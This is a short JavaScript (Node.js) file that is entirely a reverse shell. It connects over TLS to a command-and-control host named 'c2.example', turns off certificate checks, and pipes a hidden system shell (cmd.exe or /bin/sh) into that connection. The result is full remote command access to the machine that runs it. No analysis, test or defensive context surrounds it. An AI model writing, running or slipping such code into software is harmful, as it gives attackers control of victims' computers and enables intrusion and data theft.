const tls = require('tls'), cp = require('child_process'), os = require('os');
const s = tls.connect(443, 'c2.example', { rejectUnauthorized: false }, () => {
  const sh = cp.spawn(os.platform() === 'win32' ? 'cmd.exe' : '/bin/sh', [], { windowsHide: true });
  s.pipe(sh.stdin); sh.stdout.pipe(s);
});
